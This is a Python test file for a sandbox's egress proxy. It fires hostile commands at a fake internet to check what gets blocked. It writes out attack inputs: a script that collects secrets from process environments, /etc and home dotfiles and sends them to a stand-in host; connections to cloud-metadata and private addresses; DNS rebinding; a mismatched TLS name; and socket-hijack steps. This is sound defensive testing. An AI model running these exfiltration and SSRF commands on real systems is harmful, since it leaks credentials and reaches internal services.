"""Hostile commands in sandboxes that may reach some hosts of a fake internet: what they reach, and
what not."""

import contextlib
import os
import shutil
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path
from typing import Self

import pytest

from osiris.core.ports.sandbox import Result
from osiris.core.work import Blocked
from tests.attacks import tls
from tests.attacks.conftest import CHECKOUT, ORDINARY_UID, SMALL_LIMITS, USERS, WorkerUnderAttack
from tests.conftest import create_test_folder

PUBLIC = "8.8.8.8"
NOT_LISTED = "it is not on the list of allowed hosts"
NOT_PUBLIC = "its address is not a public one"
ASK_FUNCTION = """
ask() { python3 - "$@" <<'END'
import socket, ssl, sys
to, name, more = [*sys.argv[1:], "", ""][:3]
with socket.create_connection(("127.0.0.1", 3128), 5) as proxy:
    proxy.sendall(f"CONNECT {to} HTTP/1.1\\r\\n\\r\\n".encode())
    reply = proxy.recv(4096).decode()
    print(reply.splitlines()[0] if reply else "nothing")
    if " 200 " in reply:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            with context.wrap_socket(proxy, server_hostname=name or to.rpartition(":")[0]) as secure:
                print(secure.recv(4096).decode())
                secure.sendall(bytes(17 << 20) if more == "much" else more.encode())
                secure.shutdown(socket.SHUT_WR)
                secure.recv(1)
        except OSError as error:
            print("error:", error)
END
}
"""

SEND_DIRECTLY = f"""
import socket
QUESTION = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1"
for kind, to in ((socket.SOCK_STREAM, ("{PUBLIC}", 443)), (socket.SOCK_DGRAM, ("127.0.0.1", 53))):
    with socket.socket(type=kind) as direct:
        direct.settimeout(1)
        try:
            direct.connect(to)
            direct.send(QUESTION)
            print("went out", kind == socket.SOCK_STREAM or direct.recv(99)[:2] == QUESTION[:2])
        except OSError as error:
            print(error)
"""


class OnlineWorker(WorkerUnderAttack):
    """A worker with an internet of its own; see `fake_internet.py`."""

    @classmethod
    def start(cls, worker: WorkerUnderAttack, folder: Path) -> Self:
        """Start a worker of the same kind of user as `worker`, whose files are below `folder`."""
        for name in ("own", "checkout", "packages", "internet"):
            (folder / name).mkdir()
        if worker.user == "ordinary" and os.geteuid() == 0:
            shutil.chown(folder / "own", ORDINARY_UID, ORDINARY_UID)
        tls.make_certificate(folder, ["*.wild.example"])
        return cls(worker.user, folder, worker.repo, worker.base)

    def _build_command(self, folder: Path, fd: int) -> list[str]:
        internet = [
            "/usr/bin/python3",
            str(CHECKOUT / "tests/attacks/fake_internet.py"),
            str(folder / "both.pem"),
            str(folder / "internet"),
        ]
        return [*internet, *super()._build_command(folder, fd)]

    def read_received(self) -> bytes:
        """Return all that the server of this internet received."""
        file = self.folder / "internet" / "received"
        return file.read_bytes() if file.exists() else b""

    def read_lookups(self) -> str:
        """Return the names that were looked up in this internet."""
        file = self.folder / "internet" / "lookups"
        return file.read_bytes().decode(errors="replace") if file.exists() else ""


@pytest.fixture(scope="session")
def online_worker(worker: WorkerUnderAttack) -> Iterator[OnlineWorker]:
    """Provide a worker with an internet, and with a session "s" that may reach *.wild.example."""
    with (
        create_test_folder() as folder,
        contextlib.closing(OnlineWorker.start(worker, folder)) as started,
    ):
        started.create_session("s", SMALL_LIMITS, hosts=("*.wild.example",))
        yield started
        started.destroy_session("s")


def encode_name(*addresses: str, domain: str = "wild.example") -> str:
    """Return a name that leads to an address. With several addresses, each lookup returns the next
    one."""
    return "a" + "-".join(ip_address(address).packed.hex() for address in addresses) + f".{domain}"


ALLOWED_TARGET = f"{encode_name(PUBLIC)}:443"


def build_connect_script(*args: str) -> str:
    """Return a script that connects to a host through the proxy, and prints its answers. `args`
    are host and port, the name in the TLS hello, and the text to send ("much" for 17 MiB)."""
    return f"{ASK_FUNCTION}\nask {' '.join(args)}\n"


def assert_refused(result: Result, host: str, port: int, reason: str, times: int = 1) -> None:
    assert b"403 Blocked by the sandbox" in result.output, result.output
    assert b"reached" not in result.output
    assert result.blocked == (Blocked(host=host, port=port, times=times, reason=reason),)


def test_a_host_that_may_be_reached(online_worker):
    result = online_worker.run_script(build_connect_script(ALLOWED_TARGET))
    assert f"reached at {PUBLIC}" in result.output.decode()
    assert result.blocked == ()


BLOCKED_TARGETS = {
    "another host": (encode_name(PUBLIC, domain="other.example"), 443),
    "an ending": (encode_name(PUBLIC, domain="wild.example.evil.example"), 443),
    "a beginning": (encode_name(PUBLIC, domain="evilwild.example"), 443),
    "another port": (encode_name(PUBLIC), 22),
    "an address": (PUBLIC, 443),
}


@pytest.mark.parametrize("name", BLOCKED_TARGETS)
def test_a_host_that_may_not_be_reached(name, online_worker, record_verdict):
    """The proxy does not even look the name up, because lookups could carry data out."""
    host, port = BLOCKED_TARGETS[name]
    before = online_worker.read_lookups()
    script = build_connect_script(f"{host}:{port}")
    assert_refused(online_worker.run_script(script * 2), host, port, NOT_LISTED, times=2)
    assert online_worker.read_lookups() == before
    control_output = online_worker.run_unprotected(build_connect_script(f"{host}:443"))
    assert f"reached at {PUBLIC}" in control_output
    record_verdict(NOT_LISTED, "an open proxy went there")


INTERNAL_ADDRESSES = [
    *(
        "127.0.0.1",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.64.0.1",
        "100.100.100.200",
    ),
    *("0.0.0.0", "192.0.0.192", "192.168.0.10", "198.18.0.1", "240.0.0.1", "168.63.129.16"),
    *(
        "::1",
        "fd00::1",
        "fec0::1",
        "::ffff:10.1.2.3",
        "::127.0.0.1",
        "64:ff9b::10.0.0.1",
        "64:ff9b:1::10.0.0.1",
    ),
    "2002:a00:1::1",
]
"""Addresses of machines, of private networks, and of metadata services of clouds."""


@pytest.mark.parametrize("worker", USERS[:1], indirect=True)
@pytest.mark.parametrize("address", INTERNAL_ADDRESSES)
def test_a_name_that_leads_to_what_is_nobodys_business(address, online_worker, record_verdict):
    script = build_connect_script(f"{encode_name(address)}:443")
    result = online_worker.run_script(script)
    assert "reached at" in online_worker.run_unprotected(script)
    assert_refused(result, encode_name(address), 443, NOT_PUBLIC)
    record_verdict(NOT_PUBLIC, "an open proxy went there")


def test_a_name_that_leads_somewhere_else_the_second_time(online_worker, record_verdict):
    host = encode_name(PUBLIC, "127.0.0.1")
    result = online_worker.run_script(build_connect_script(f"{host}:443") * 2)
    assert result.output.decode().count(f"reached at {PUBLIC}") == 1
    assert "reached at 127" not in result.output.decode()
    assert [(blocked.host, blocked.reason) for blocked in result.blocked] == [(host, NOT_PUBLIC)]
    other = encode_name(PUBLIC, "127.0.0.1", domain="more.wild.example")
    look_up = f"python3 -c 'import socket; print(socket.gethostbyname(\"{other}\"))'\n"
    control_output = online_worker.run_unprotected(look_up + build_connect_script(f"{other}:443"))
    assert control_output.startswith(PUBLIC)
    assert "reached at 127.0.0.1" in control_output
    record_verdict("looked up once for each connection", "looked up twice, it led to this machine")


def test_another_name_in_the_hello_than_in_the_request(online_worker, record_verdict):
    script = build_connect_script(ALLOWED_TARGET, "evil.example")
    result = online_worker.run_script(script)
    assert b"reached" not in result.output
    [blocked] = result.blocked
    assert (blocked.host, blocked.reason) == (
        encode_name(PUBLIC),
        "its TLS hello names another host: 'evil.example'",
    )
    assert "reached at" in online_worker.run_unprotected(script)
    record_verdict("no other name", "an open proxy let it through")


def test_the_secret_of_the_worker_does_not_go_out(online_worker, record_verdict):
    """A hostile command sends all that it finds to a host that it may reach. It limits the time for
    reading environments, because the kernel does not answer for a process that has no memory left,
    such as a bomb of another test."""
    places = "/proc/self/environ /proc/*/environ /run/*/* /etc/* ~/.*"
    find = (
        f'found=$(timeout 5 cat {places} 2>/dev/null | tr "\\0" " " | grep -ao "canary[-0-9a-f]*")'
    )
    send = build_connect_script(ALLOWED_TARGET, "''", '"all that was found: $found"')
    script = f"{find}\n{send}"
    assert b"reached at" in online_worker.run_script(script).output
    assert b"all that was found: " in online_worker.read_received()
    assert online_worker.canary.encode() not in online_worker.read_received()
    assert "reached at" in online_worker.run_unprotected(script)
    assert online_worker.canary.encode() in online_worker.read_received()
    record_verdict("there was nothing to send", "it was sent")


def test_more_than_may_be_sent(online_worker, record_verdict):
    """The command sends 17 MiB: enough for a repository, or for a person's home folder."""
    online_worker.create_session("talker", SMALL_LIMITS, hosts=("*.wild.example",))
    script = build_connect_script(ALLOWED_TARGET, "''", "much")
    before = len(online_worker.read_received())
    result = online_worker.run_script(script, name="talker")
    sent = len(online_worker.read_received()) - before
    assert [blocked.reason for blocked in result.blocked] == ["more than 16 MiB went up"]
    again = online_worker.run_script(build_connect_script(ALLOWED_TARGET), name="talker")
    assert b"reached" not in again.output, "the next command had a new limit"
    online_worker.destroy_session("talker")
    online_worker.run_unprotected(script)
    assert sent < 16 << 20 < len(online_worker.read_received()) - before - sent
    record_verdict("16 MiB in a session's life", "an open proxy took 17 MiB")


# ── the socket ────────────────────────────────────────────────────────────────────────────────────


def find_sockets(worker: WorkerUnderAttack) -> list[str]:
    """Return the names of the proxies' sockets in the worker's folders of jails."""
    return [path.name for path in (worker.folder / "own/sandboxes").glob("@out/*/jail/*.sock")]


def test_without_hosts_there_is_no_socket(online_worker, record_verdict):
    find = "echo; ls /run/egress/egress.sock; env | grep -i proxy"
    script = f"{find}; (exec 3<>/dev/tcp/127.0.0.1/3128) && echo connected; echo over"
    online_worker.create_session("closed", SMALL_LIMITS)
    output = online_worker.run_script(script, name="closed").output.decode()
    online_worker.destroy_session("closed")
    assert "over" in output
    for word in ("\n/run/egress/egress.sock", "HTTPS_PROXY", "connected"):
        assert word not in output
        assert word in online_worker.run_script(script).output.decode()
    record_verdict("no socket, nothing listens", "with hosts all that is there")


def test_no_socket_outlives_a_command(online_worker, record_verdict):
    assert (
        online_worker.run_script("ls /run/egress/egress.sock").output
        == b"/run/egress/egress.sock\n"
    )
    assert find_sockets(online_worker) == []
    assert "error: " in online_worker.call_tool("read_file", path="/run/egress/egress.sock")
    record_verdict("gone after each command", "there while one runs")


def test_the_socket_cannot_be_replaced(online_worker, record_verdict):
    """A replaced socket would let a hostile command read what the next command sends, or give that
    command access to any host."""
    script = """
    rm -f "$where/egress.sock"; touch "$where/x"; ln -sf /tmp/x "$where/egress.sock"
    python3 -c "import socket, sys; socket.socket(1).bind('$where/other.sock'); print('bound')"; chmod 777 "$where"
    mv "$where" "$where.old"
    """
    assert b"bound" not in online_worker.run_script(f"where=/run/egress {script}").output
    assert (
        f"reached at {PUBLIC}"
        in online_worker.run_script(build_connect_script(ALLOWED_TARGET)).output.decode()
    )
    assert "bound" in online_worker.run_unprotected(f"mkdir out; where=out; {script}")
    record_verdict("read-only", "in a folder of its own it is replaced")


def test_words_that_do_not_go_through_the_proxy(online_worker, record_verdict):
    script = f"python3 - <<'END'\n{SEND_DIRECTLY}\nEND"
    assert "went out" not in online_worker.run_script(script).output.decode()
    assert online_worker.run_unprotected(script).count("went out True") == 2
    record_verdict("no other network", "two ways out")
